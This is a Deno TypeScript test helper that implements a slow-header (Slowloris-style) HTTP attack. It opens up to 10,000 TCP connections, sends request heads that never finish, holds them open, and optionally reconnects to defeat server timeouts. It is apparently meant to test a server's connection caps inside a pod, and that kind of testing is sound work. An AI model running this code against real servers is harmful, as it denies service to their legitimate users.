/**
 * Runs INSIDE a pod's netns and plays the attacker of issue 9 §2: opens `count` TCP connections
 * to host:port, sends each a request head that never ends (no blank line), and holds them all.
 *
 *   deno run --no-config --allow-net http_attacker.ts <host> <port> <count> <holdMs> [reconnect]
 *
 * With `reconnect`, every connection the server closes is opened again 200 ms later while
 * holding (at most 50 times `count` attempts in all): the attacker who answers caps and header
 * timeouts by coming back.
 *
 * Prints two JSON lines on stdout: {"event":"holding",...} once every connection was tried, and
 * {"event":"done",...} after holding `holdMs`; then exits. Bounded: count <= 10000, connects time
 * out after 3 s, and the process ends itself 60 s after the hold at the latest.
 */

const [host, portText, countText, holdText, mode] = Deno.args;
const port = Number(portText);
const count = Number(countText);
const holdMs = Number(holdText);
const reconnect = mode === "reconnect";
if (
  !host || !(port > 0) || !(count > 0 && count <= 10_000) || !(holdMs >= 0 && holdMs <= 600_000)
) {
  console.error(
    "usage: http_attacker.ts <host> <port> <count 1..10000> <holdMs 0..600000> [reconnect]",
  );
  Deno.exit(2);
}
setTimeout(() => Deno.exit(3), holdMs + 60_000); // never outlive the test by much

const HALF_REQUEST = new TextEncoder().encode(
  "GET /metrics HTTP/1.1\r\nHost: node\r\nX-Never-Ends: ",
);
const CONNECT_TIMEOUT_MS = 3_000;
const RECONNECT_DELAY_MS = 200;
const BATCH = 200;

let attempts = 0;
let connected = 0;
let failed = 0;
let closedByServer = 0;
let holding = true;
const held = new Set<Deno.Conn>();

async function attack(): Promise<void> {
  attempts++;
  let timer: ReturnType<typeof setTimeout> | undefined;
  const late = new Promise<"late">((r) => timer = setTimeout(() => r("late"), CONNECT_TIMEOUT_MS));
  const pending = Deno.connect({ hostname: host!, port });
  try {
    const conn = await Promise.race([pending, late]);
    if (conn === "late") {
      failed++;
      pending.then((c) => c.close(), () => {});
      return;
    }
    connected++;
    held.add(conn);
    try {
      await conn.write(HALF_REQUEST);
    } catch { /* already closed by the server: noticed by the read below */ }
    // Never send the rest; notice when the server gives up on us (end of stream or reset).
    const closed = () => {
      closedByServer++;
      held.delete(conn);
      try {
        conn.close();
      } catch { /* gone */ }
      if (reconnect && holding && attempts < count * 50) {
        setTimeout(() => holding && attack(), RECONNECT_DELAY_MS);
      }
    };
    conn.read(new Uint8Array(1024)).then(closed, closed);
  } catch {
    failed++;
  } finally {
    clearTimeout(timer);
  }
}

const report = (event: string) =>
  console.log(JSON.stringify({ event, attempts, connected, failed, closedByServer }));

for (let i = 0; i < count; i += BATCH) {
  await Promise.all(Array.from({ length: Math.min(BATCH, count - i) }, attack));
}
// Let the server's reaction to the last batch arrive before reporting.
await new Promise((r) => setTimeout(r, 200));
report("holding");
await new Promise((r) => setTimeout(r, holdMs));
holding = false;
report("done");
for (const c of held) {
  try {
    c.close();
  } catch { /* gone */ }
}
Deno.exit(0);
